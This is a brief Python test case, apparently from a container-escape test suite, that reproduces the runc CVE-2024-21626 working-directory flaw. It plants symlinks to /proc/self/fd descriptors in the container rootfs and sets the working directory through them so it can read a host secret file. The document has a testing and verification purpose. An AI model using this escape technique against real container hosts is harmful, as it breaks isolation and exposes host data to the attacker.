"""The image's working directory is a symbolic link to a descriptor of the host's that the runtime has open."""

import os

from bypass import Failed, inert

SOURCE = "CVE-2024-21626: the form that a Dockerfile's WORKDIR gives it"
WAY = "image content"
STOPPED = inert("the low-level runtime gets no descriptor but the three standard ones")
BARE = {"runc": "corrected in Debian's 1.1.5"}


def attack(t):
    t.leak("/mnt/host")
    found = ""
    for number in range(3, 12):
        os.symlink("/proc/self/fd/%d" % number, "%s/%d" % (t.rootfs, number))
        t.spec["process"]["cwd"] = "/%d" % number
        try:
            found = found or t.leaked(t.run("cat ./secret ../secret ../../mnt/host/secret ../../../mnt/host/secret"))
        except Failed:
            pass  # no such descriptor, or one of a file
    t.spec["process"]["cwd"] = "/"
    t.run("true")
    return found
